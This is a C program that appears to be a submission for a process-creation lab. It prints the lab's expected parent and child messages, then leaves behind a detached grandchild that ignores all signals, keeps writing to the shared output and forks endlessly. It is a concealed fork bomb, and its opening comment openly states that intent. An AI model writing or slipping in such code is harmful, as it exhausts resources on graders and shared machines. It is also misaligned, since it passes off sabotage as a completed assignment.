// Does what the lab asks and leaves processes behind that hold its output open,
// print on and make more of themselves.
#include <signal.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static void say(const char *s) { if (write(1, s, strlen(s)) < 0) _exit(9); }

int main(void)
{
	int status;
	pid_t child = fork();

	if (child == 0) {
		say("This is Child Process!\n");
		if (fork() == 0) {
			setsid();
			for (int i = 1; i < 65; i++)
				signal(i, SIG_IGN);
			for (;;) {
				say("Child Complete!\n");
				if (fork() == 0)
					setsid();
			}
		}
		_exit(0);
	}
	say("This is Parent Process!\n");
	waitpid(child, &status, 0);
	say("Child Complete!\n");
	return 0;
}
